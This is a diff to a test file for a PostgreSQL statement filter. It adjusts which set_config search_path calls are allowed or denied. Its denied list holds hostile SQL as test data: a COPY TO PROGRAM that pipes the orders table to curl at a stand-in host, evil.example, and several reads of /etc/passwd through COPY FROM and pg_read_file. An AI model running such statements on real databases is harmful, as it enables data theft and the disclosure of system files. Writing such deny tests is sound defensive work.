@@ -55,6 +55,8 @@ ALLOWED = [
     "RESET ALL",
     "DEALLOCATE p",
     "DISCARD ALL",
+    "SELECT set_config('search_path', 'public', false)",  # as pg_dump sends it
+    "SELECT pg_catalog.set_config('search_path', 'public, pg_catalog', true)",
 ]
 DENIED = {
     'select * from "Public"."Orders"': "default-deny",  # quoted: a different table than public.orders
@@ -69,7 +71,8 @@ DENIED = {
     "COPY orders TO PROGRAM 'curl -d @- evil.example'": "default-deny",
     "COPY orders FROM '/etc/passwd'": "default-deny",
     "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))": "builtin-dangerous-functions",
-    "SELECT set_config('search_path', 'secret', false)": "builtin-dangerous-functions",
+    "SELECT set_config('work_mem', '1TB', false)": "builtin-dangerous-functions",
+    "SELECT set_config('search_path', current_user, false)": "sql-not-understood",
     "select * from pg_read_file('/etc/passwd')": "builtin-dangerous-functions",
     "select pg_catalog.pg_read_file('/etc/passwd')": "builtin-dangerous-functions",
     'select "pg_read_file"(\'/etc/passwd\')': "builtin-dangerous-functions",
